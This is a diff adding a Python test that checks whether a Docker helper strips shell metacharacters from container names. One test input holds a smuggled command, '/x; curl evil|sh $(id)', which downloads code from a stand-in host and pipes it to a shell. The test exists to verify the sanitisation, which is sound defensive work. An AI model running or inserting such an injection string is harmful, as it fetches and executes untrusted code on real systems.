@@ -109,5 +109,10 @@ def test_an_end_is_plain_whatever_was_answered(answer: object) -> None:
     assert (found["code"], found["oom"]) == (None, False)
 
 
+def test_a_name_says_nothing_to_a_shell() -> None:
+    assert docker.end_of({"Name": "/my-job.1_a"})["name"] == "my-job.1_a"
+    assert docker.end_of({"Name": "/x; curl evil|sh $(id)"})["name"] == "x__curl_evil_sh___id_"
+
+
 def test_a_long_name_is_cut() -> None:
     assert len(str(docker.end_of({"Name": "/\x1b" + "x" * 10_000}))) < 300
